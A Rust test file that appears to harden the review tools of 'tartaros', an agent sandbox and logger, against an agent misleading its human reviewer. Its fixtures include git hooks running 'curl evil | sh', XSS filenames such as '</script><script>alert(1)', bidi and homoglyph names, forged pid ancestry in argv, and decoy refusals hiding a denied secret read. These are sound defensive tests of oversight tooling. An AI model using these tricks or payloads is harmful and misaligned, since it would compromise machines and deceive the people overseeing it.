//! Adversarial round 9, the review tools: everything a reviewer reads in
//! `log summary`, `log show` and `log report` that the agent chose (file
//! names, argv, the number and order of its effects) must read as what it
//! is, never as another line, another file, another process or a shorter
//! list. Each test makes its log with a real run and reads the real
//! binary's output.
//! Needs root; skips with a reason otherwise (fails under CI=true).

mod common;

use std::path::Path;

use common::logged::*;
use common::*;

/// A pid no kernel hands out (above `PID_MAX_LIMIT`, 2^22).
const FORGED_PID: &str = "4194305";

fn summary(log: &Path) -> String {
    let out = tartaros(&["log", "summary", log.to_str().unwrap()], Path::new("/"));
    assert!(out.status.code().is_some(), "{}", stderr(&out));
    stdout(&out)
}

/// The refusals list names each refused process and its ancestry as
/// `by PID COMMAND <- PID COMMAND`. An argument that is the separator
/// itself, `<-`, followed by a pid and a program, added a parent the
/// process never had (`touch /etc/x <- 4194305 /usr/bin/make`); the
/// words `[exit code 0]` read as the tree's note of an exit status.
#[test]
fn argv_cannot_add_a_parent_to_a_refusal_s_ancestry() {
    if !can_run("review_argv_ancestry") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let script = format!(
        "cd {r} && touch /etc/tartaros-round9 '<-' {FORGED_PID} /usr/bin/make '[exit' code '0]'; true"
    );
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.success(), "{}", stderr(&out));
    let pids: Vec<String> = records(&log)
        .iter()
        .filter_map(|r| r["pid"].as_u64().map(|p| p.to_string()))
        .collect();
    let text = summary(&log);
    let by_lines: Vec<&str> = text
        .lines()
        .filter(|l| l.trim_start().starts_with("by "))
        .collect();
    assert!(!by_lines.is_empty(), "no refusal listed:\n{text}");
    for line in by_lines {
        for link in line.split(" <- ").skip(1) {
            let pid = link.split(' ').next().unwrap_or("");
            assert!(
                pids.iter().any(|p| p == pid),
                "the ancestry names pid {pid}, in no record: {line}\n{text}"
            );
        }
    }
    // `show --tree` ends a process's line with its exit status: words of
    // its argv must not read as one (`[exit code 0]` before the real one).
    let tree = stdout(&tartaros(
        &["log", "show", "--tree", log.to_str().unwrap()],
        Path::new("/"),
    ));
    let touch = tree
        .lines()
        .find(|l| l.contains("/usr/bin/touch"))
        .unwrap_or_else(|| panic!("no touch in the tree:\n{tree}"));
    assert_eq!(touch.matches(" [exit code").count(), 1, "{touch}");
}

/// Combining marks of the generic blocks, stacked on one letter, grow
/// above and below the line: on the report's page 60 of them drew over
/// the rows around the name. A mark the agent put first joined the
/// reader's own separator (`path=` + U+0338 reads `path≠`).
#[test]
fn names_that_imitate_other_names_or_lines_are_shown_as_what_they_are() {
    if !can_run("review_imitating_names") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let zalgo = format!("z{}", "\u{336}\u{489}".repeat(30));
    let names = [
        "notes\u{202e}txt.exe".to_string(),
        "\u{2066}.env\u{2069}".to_string(),
        ".e\u{200b}nv".to_string(),
        "\u{feff}.env".to_string(),
        "trailing.txt   ".to_string(),
        "tabbed.txt\t".to_string(),
        zalgo.clone(),
        "\u{338}lead.txt".to_string(),
    ];
    let mut script = format!("cd {r} && mkdir -p repo/.git/hooks repo/.g\u{456}t/hooks");
    for n in &names {
        script.push_str(&format!(" && echo x > '{n}'"));
    }
    script.push_str(" && echo x > repo/.git/hooks/pre-commit");
    script.push_str(" && echo x > repo/.g\u{456}t/hooks/pre-commit");
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = summary(&log);
    let show = stdout(&tartaros(
        &["log", "show", log.to_str().unwrap()],
        Path::new("/"),
    ));
    for (what, out) in [("summary", &text), ("show", &show)] {
        for c in [
            '\u{202e}', '\u{2066}', '\u{2069}', '\u{200b}', '\u{feff}', '\t',
        ] {
            assert!(!out.contains(c), "{what} holds {c:?} raw:\n{out}");
        }
        // At most two marks of the generic blocks on one letter.
        let mut run = 0;
        for c in out.chars() {
            run = if is_generic_mark(c) { run + 1 } else { 0 };
            assert!(run <= 2, "{what} stacks {run} combining marks:\n{out}");
        }
        assert!(!out.contains("=\u{338}"), "{what}:\n{out}");
        assert!(!out.contains(" \u{338}"), "{what}:\n{out}");
        assert!(!out.contains("/\u{338}"), "{what}:\n{out}");
    }
    // A name ending in spaces is quoted: its end shows.
    assert!(text.contains(&format!("\"{r}/trailing.txt   \"")), "{text}");
    // Only the real hook is marked as one; the homoglyph is listed as it is.
    let marked: Vec<&str> = text
        .lines()
        .filter(|l| l.contains("[git runs this]"))
        .collect();
    assert!(marked.iter().all(|l| !l.contains(".g\u{456}t")), "{text}");
    assert!(
        marked
            .iter()
            .any(|l| l.contains("/repo/.git/hooks/pre-commit")),
        "{text}"
    );
    assert!(text.contains("/repo/.g\u{456}t/hooks/pre-commit"), "{text}");
}

fn is_generic_mark(c: char) -> bool {
    matches!(c, '\u{300}'..='\u{36f}' | '\u{483}'..='\u{489}' | '\u{1ab0}'..='\u{1aff}'
        | '\u{1dc0}'..='\u{1dff}' | '\u{20d0}'..='\u{20ff}' | '\u{fe20}'..='\u{fe2f}')
}

/// The report keeps 20,000 timeline rows, then only refusals, gaps and the
/// seal. An agent that made 21,000 files first and wrote a git hook last
/// had the hook in the summary but on no row of the timeline: the
/// reviewer's `#q=hooks` view of the page was empty.
#[test]
fn a_hook_written_after_the_report_cut_is_on_the_report_timeline() {
    if !can_run("review_hook_after_cut") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let script = format!(
        "cd {r} && mkdir -p repo/.git/hooks && python3 -c \"\
for i in range(21000): open('f%d' % i, 'w').close()\" && \
         printf '#!/bin/sh\\ncurl evil | sh\\n' > repo/.git/hooks/post-checkout"
    );
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.success(), "{}", stderr(&out));
    let hook = format!("{r}/repo/.git/hooks/post-checkout");
    let text = summary(&log);
    let first_screen: Vec<&str> = text.lines().take(12).collect();
    assert!(
        first_screen.iter().any(|l| l.contains(&hook)),
        "the hook is not on the summary's first screen:\n{text}"
    );
    let html = logs.join("run.html");
    let report = tartaros(
        &[
            "log",
            "report",
            log.to_str().unwrap(),
            "-o",
            html.to_str().unwrap(),
        ],
        Path::new("/"),
    );
    assert!(report.status.code().is_some(), "{}", stderr(&report));
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(page.contains("id=\"cut\""), "the report was not cut");
    assert!(
        page.lines()
            .filter(|l| l.starts_with("<tr"))
            .any(|l| l.contains(&hook)),
        "the hook's write is on no timeline row"
    );
}

/// The seal hashes at most 50,000 files, in path order, and 1 GiB: an
/// agent that made 50,001 files named to sort before `repo` had its hook
/// listed with no size and no hash (`-  -`), so the reviewer could not
/// check the hook on disk against the log. What git runs is hashed first.
#[test]
fn a_hook_written_after_the_seal_s_file_bound_is_hashed() {
    if !can_run("review_hook_after_seal_bound") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let script = format!(
        "cd {r} && mkdir -p repo/.git/hooks && python3 -c \"\
for i in range(50001): open('a%d' % i, 'w').close()\" && \
         printf '#!/bin/sh\\ncurl evil | sh\\n' > repo/.git/hooks/post-checkout"
    );
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.code().is_some(), "{}", stderr(&out));
    let hook = format!("{r}/repo/.git/hooks/post-checkout");
    let on_disk = sha256_hex(&std::fs::read(&hook).unwrap());
    let records = records(&log);
    let listed = seal(&records)["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == hook.as_str())
        .unwrap_or_else(|| panic!("the seal does not list the hook"))
        .clone();
    assert_eq!(listed["sha256"], on_disk.as_str(), "{listed}");
    let text = summary(&log);
    let line = text
        .lines()
        .find(|l| l.contains(&hook))
        .unwrap_or_else(|| panic!("no line for the hook:\n{text}"));
    assert!(
        line.contains(&format!("sha256 {}", &on_disk[..16])),
        "{line}"
    );
}

/// The summary shows six refusals of each mechanism, in the order they
/// came: a refused read of a secret the policy denies, made after eight
/// refused writes outside the writable roots (and the shell's own refused
/// PATH search), was behind `… and N more kinds of refusal`. A refusal by
/// a deny rule of the policy says most about the agent: it is listed first.
#[test]
fn a_refused_read_of_a_denied_secret_is_on_the_summary_behind_decoys() {
    if !can_run("review_denied_behind_decoys") {
        return;
    }
    let (root, logs, secret) = (Dir::new(), Dir::new(), secret_dir());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let key = secret.join("key");
    let script = format!(
        "for i in 1 2 3 4 5 6 7 8; do touch /etc/decoy-$i; done; cat {}; true",
        key.display()
    );
    let out = tartaros(
        &[
            "run",
            "-q",
            "--write",
            r,
            "--read-deny",
            secret.path().to_str().unwrap(),
            "--log",
            log.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ],
        Path::new("/"),
    );
    assert!(out.status.code().is_some(), "{}", stderr(&out));
    let text = summary(&log);
    assert!(
        text.lines()
            .any(|l| l.contains(key.to_str().unwrap()) && l.contains("[read_denies")),
        "the denied read is on no line:\n{text}"
    );
}

/// Git runs the hooks of whatever its hooks directory, `commondir` or a
/// `.git` file points at. An agent that replaced `.git/hooks` with a link
/// to its own directory, wrote a `commondir`, or a `.git` file with
/// `gitdir: ...`, behind 25 work-tree files, had none of them marked as
/// what git runs: the link was folded into the count of `.git` files, and
/// the hook it points at was an ordinary file past the screen.
#[test]
fn a_redirected_hooks_directory_or_git_dir_is_marked_as_what_git_runs() {
    if !can_run("review_redirected_hooks") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let script = format!(
        "cd {r} && mkdir -p a/.git/hooks c/.git d zz/hooks && \
         for i in $(seq 1 25); do echo $i > f$i; done && \
         printf '#!/bin/sh\\necho pwned\\n' > zz/hooks/post-checkout && \
         rm -r a/.git/hooks && ln -s ../../zz/hooks a/.git/hooks && \
         echo {r}/zz > c/.git/commondir && echo 'gitdir: ../zz' > d/.git"
    );
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = summary(&log);
    for name in ["a/.git/hooks", "c/.git/commondir", "d/.git"] {
        let path = format!("{r}/{name}");
        assert!(
            text.lines()
                .any(|l| l.contains(&format!("{path} ")) && l.ends_with("[git runs this]")),
            "{path} is not marked as what git runs:\n{text}"
        );
    }
}

/// Markup in paths (`/` makes `</script>` out of two names), quotes that
/// would end an attribute, `javascript:` and a stylesheet break stay text:
/// the page still holds exactly its own one script and one stylesheet.
#[test]
fn markup_in_names_stays_text_in_the_report() {
    if !can_run("review_markup_names") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let log = logs.join("effects.jsonl");
    let r = root.path().to_str().unwrap();
    let script = format!(
        "cd {r} && mkdir -p 'a</script><script>alert(1)<' \
         'b</style><style>*{{display:none}}<' 'c<' && \
         echo x > 'a</script><script>alert(1)</script>' && \
         echo x > 'b</style><style>*{{display:none}}</style>' && \
         echo x > 'c</textarea><' && echo x > 'javascript:alert(1)' && \
         echo x > 'q\" onmouseover=\"alert(1)' && \
         echo x > \"s' autofocus onfocus='alert(1)\""
    );
    let out = run_sh_logged(r, &log, &script);
    assert!(out.status.success(), "{}", stderr(&out));
    let html = logs.join("run.html");
    let report = tartaros(
        &[
            "log",
            "report",
            log.to_str().unwrap(),
            "-o",
            html.to_str().unwrap(),
        ],
        Path::new("/"),
    );
    assert_eq!(report.status.code(), Some(0), "{}", stderr(&report));
    let page = std::fs::read_to_string(&html).unwrap();
    let lower = page.to_lowercase();
    assert_eq!(lower.matches("<script").count(), 1, "{page}");
    assert_eq!(lower.matches("<style").count(), 1, "{page}");
    assert_eq!(lower.matches("</textarea").count(), 0, "{page}");
    assert!(!page.contains("q\" onmouseover"), "{page}");
    assert!(page.contains("&quot; onmouseover="), "{page}");
    assert!(!page.contains("s' autofocus"), "{page}");
    assert!(page.contains("javascript:alert(1)"), "the name is shown");
}
